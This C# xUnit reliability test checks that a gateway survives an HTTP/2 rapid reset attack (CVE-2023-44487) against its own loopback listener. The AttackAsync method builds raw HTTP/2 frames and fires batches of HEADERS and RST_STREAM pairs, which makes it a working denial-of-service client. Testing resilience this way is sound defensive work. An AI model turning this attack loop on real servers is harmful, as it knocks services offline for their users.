using System.Buffers.Binary;
using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Text;
using Gatehouse.Tests.Infrastructure;
using Xunit.Abstractions;
using static Gatehouse.Tests.Infrastructure.TestConfig;

namespace Gatehouse.Tests.Reliability;

/// <summary>
/// HTTP/2 rapid reset (CVE-2023-44487), bounded: raw HTTP/2 frames over sockets to the h2c proxy listener, each
/// connection opening streams (HEADERS with a literal HPACK block) and cancelling them at once (RST_STREAM), as fast as
/// the socket takes them. Meanwhile HTTP/1.1 and HTTP/2 clients keep sending requests. The gateway must survive and
/// serve them all, its managed heap must stay bounded, and the upstream must not keep receiving abandoned requests
/// once the attack stops. Size: <c>GATEHOUSE_RAPID_RESET_STREAMS</c> per connection (default 5000) × 4 connections.
/// </summary>
public sealed class RapidResetTests(ITestOutputHelper output)
{
    private const int Connections = 4;

    [Fact]
    public async Task Gateway_survives_rapid_reset_and_keeps_serving()
    {
        var perConnection = int.TryParse(Environment.GetEnvironmentVariable("GATEHOUSE_RAPID_RESET_STREAMS"), out var n) && n > 0 ? n : 5000;
        await using var upstream = await EchoUpstream.StartAsync();
        var service = Service(upstream);
        await using var gateway = await GatewayFixture.StartAsync(Of([service], [Route(service, "all", paths: ["/"])]));
        var h2c = new IPEndPoint(IPAddress.Loopback, gateway.H2cUri!.Port);
        using var h1Client = gateway.CreateClient();
        using var h2Client = gateway.CreateClient(HttpVersion.Version20);
        Assert.Equal(HttpStatusCode.OK, (await h1Client.GetAsync("/warm")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await h2Client.GetAsync("/warm")).StatusCode);
        var heapBefore = Heap();
        var upstreamBefore = upstream.RequestCount;

        using var stop = new CancellationTokenSource(TimeSpan.FromSeconds(60)); // hard bound on the attack
        var clock = Stopwatch.StartNew();
        var attacks = Enumerable.Range(0, Connections).Select(_ => Task.Run(() => AttackAsync(h2c, perConnection, stop.Token))).ToArray();
        var (normal, failures) = await NormalTrafficAsync(h1Client, h2Client, () => attacks.All(a => a.IsCompleted), stop.Token);
        var results = await Task.WhenAll(attacks);
        var attackTime = clock.Elapsed;

        // once the attack is over, nothing it started is still on its way to the upstream
        var normalUpstream = normal + 0L;
        await Task.Delay(1000);
        var settled = upstream.RequestCount;
        await Task.Delay(1000);
        var later = upstream.RequestCount;
        var upstreamFromAttack = later - upstreamBefore - normalUpstream;
        var after = await h2Client.GetAsync("/after");
        var heapAfter = Heap();
        var sent = results.Sum(r => r.StreamsSent);
        output.WriteLine($"rapid reset: {Connections} connections, {sent} streams opened and reset in {attackTime.TotalSeconds:F1} s " +
            $"(GOAWAY {string.Join(",", results.Select(r => r.GoAway?.ToString() ?? "none"))}; stream responses seen {results.Sum(r => r.Responses)}), " +
            $"upstream requests from the attack {upstreamFromAttack}, normal requests {normal} ({failures.Count} failed), " +
            $"managed heap {heapBefore >> 20} → {heapAfter >> 20} MiB");

        Assert.Empty(failures);
        Assert.True(normal >= 10, $"only {normal} normal requests were made");
        Assert.Equal(HttpStatusCode.OK, after.StatusCode);
        Assert.InRange(upstreamFromAttack, 0, sent);
        Assert.Equal(settled, later); // no backlog of abandoned requests keeps reaching the upstream
        Assert.True(heapAfter - heapBefore < 256L << 20, $"managed heap grew by {(heapAfter - heapBefore) >> 20} MiB");
    }

    private static long Heap()
    {
        GC.Collect();
        GC.WaitForPendingFinalizers();
        GC.Collect();
        return GC.GetTotalMemory(forceFullCollection: true);
    }

    private static async Task<(int Count, List<string> Failures)> NormalTrafficAsync(HttpClient h1, HttpClient h2, Func<bool> done, CancellationToken stop)
    {
        var failures = new List<string>();
        var count = 0;
        var clock = Stopwatch.StartNew();
        while ((!done() || clock.Elapsed < TimeSpan.FromSeconds(2)) && !stop.IsCancellationRequested)
        {
            var client = count % 2 == 0 ? h1 : h2;
            try
            {
                using var response = await client.GetAsync($"/normal/{count}", stop);
                if (response.StatusCode != HttpStatusCode.OK) failures.Add($"#{count} {client.DefaultRequestVersion}: {(int)response.StatusCode}");
            }
            catch (Exception e) when (e is HttpRequestException or TaskCanceledException)
            {
                failures.Add($"#{count} {client.DefaultRequestVersion}: {e.GetType().Name} {e.Message}");
            }
            count++;
            await Task.Delay(5);
        }
        return (count, failures);
    }

    private sealed record AttackResult(int StreamsSent, int Responses, int? GoAway);

    /// <summary>One connection: preface, SETTINGS, then HEADERS + RST_STREAM pairs in batches until
    /// <paramref name="streams"/> are sent or the server closes the connection.</summary>
    private static async Task<AttackResult> AttackAsync(IPEndPoint endpoint, int streams, CancellationToken stop)
    {
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        await socket.ConnectAsync(endpoint, stop);
        var reader = new FrameReader(socket);
        var reading = Task.Run(() => reader.RunAsync(stop));
        var sent = 0;
        try
        {
            var start = new List<byte>(Encoding.ASCII.GetBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
            start.AddRange(Frame(0x4, 0, 0, []));
            await socket.SendAsync(start.ToArray(), SocketFlags.None, stop);
            var block = HeaderBlock("/rapid-reset");
            var streamId = 1;
            while (sent < streams && !reader.Closed)
            {
                var batch = new List<byte>();
                for (var i = 0; i < 100 && sent < streams; i++, sent++, streamId += 2)
                {
                    batch.AddRange(Frame(0x1, 0x4 | 0x1, streamId, block)); // HEADERS, END_HEADERS | END_STREAM
                    var cancel = new byte[4];
                    BinaryPrimitives.WriteUInt32BigEndian(cancel, 0x8); // CANCEL
                    batch.AddRange(Frame(0x3, 0, streamId, cancel)); // RST_STREAM
                }
                await socket.SendAsync(batch.ToArray(), SocketFlags.None, stop);
                lock (reader.Pending) foreach (var ack in reader.Pending) socket.Send(ack);
            }
        }
        catch (Exception e) when (e is SocketException or ObjectDisposedException or OperationCanceledException)
        {
            // the server closed the connection (GOAWAY then FIN or RST): the attack on it is over
        }
        socket.Shutdown(SocketShutdown.Send);
        await Task.WhenAny(reading, Task.Delay(5000, CancellationToken.None));
        return new AttackResult(sent, reader.Responses, reader.GoAway);
    }

    /// <summary>:method GET, :scheme http (static table), :path and :authority as literals without indexing.</summary>
    private static byte[] HeaderBlock(string path)
    {
        var block = new List<byte> { 0x82, 0x86 };
        block.Add(0x04); // literal without indexing, name = static index 4 (:path)
        block.Add((byte)path.Length);
        block.AddRange(Encoding.ASCII.GetBytes(path));
        block.Add(0x01); // name = static index 1 (:authority)
        block.Add(1);
        block.Add((byte)'x');
        return [.. block];
    }

    private static byte[] Frame(byte type, byte flags, int streamId, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        frame[0] = (byte)(payload.Length >> 16);
        frame[1] = (byte)(payload.Length >> 8);
        frame[2] = (byte)payload.Length;
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), streamId);
        payload.CopyTo(frame, 9);
        return frame;
    }

    /// <summary>Reads the server's frames: acknowledges SETTINGS, counts response HEADERS, remembers GOAWAY.</summary>
    private sealed class FrameReader(Socket socket)
    {
        public List<byte[]> Pending { get; } = [];
        public int Responses;
        public int? GoAway;
        public volatile bool Closed;

        public async Task RunAsync(CancellationToken stop)
        {
            var header = new byte[9];
            try
            {
                while (!stop.IsCancellationRequested)
                {
                    if (!await ReadExactlyAsync(header, stop)) break;
                    var length = (header[0] << 16) | (header[1] << 8) | header[2];
                    var payload = new byte[length];
                    if (!await ReadExactlyAsync(payload, stop)) break;
                    switch (header[3])
                    {
                        case 0x1: Interlocked.Increment(ref Responses); break;
                        case 0x4 when (header[4] & 0x1) == 0: lock (Pending) Pending.Add(Frame(0x4, 0x1, 0, [])); break;
                        case 0x7: GoAway = (int)BinaryPrimitives.ReadUInt32BigEndian(payload.AsSpan(4)); break;
                    }
                }
            }
            catch (Exception e) when (e is SocketException or ObjectDisposedException or OperationCanceledException) { }
            Closed = true;
        }

        private async Task<bool> ReadExactlyAsync(byte[] buffer, CancellationToken stop)
        {
            var got = 0;
            while (got < buffer.Length)
            {
                var n = await socket.ReceiveAsync(buffer.AsMemory(got), SocketFlags.None, stop);
                if (n == 0) return false;
                got += n;
            }
            return true;
        }
    }
}
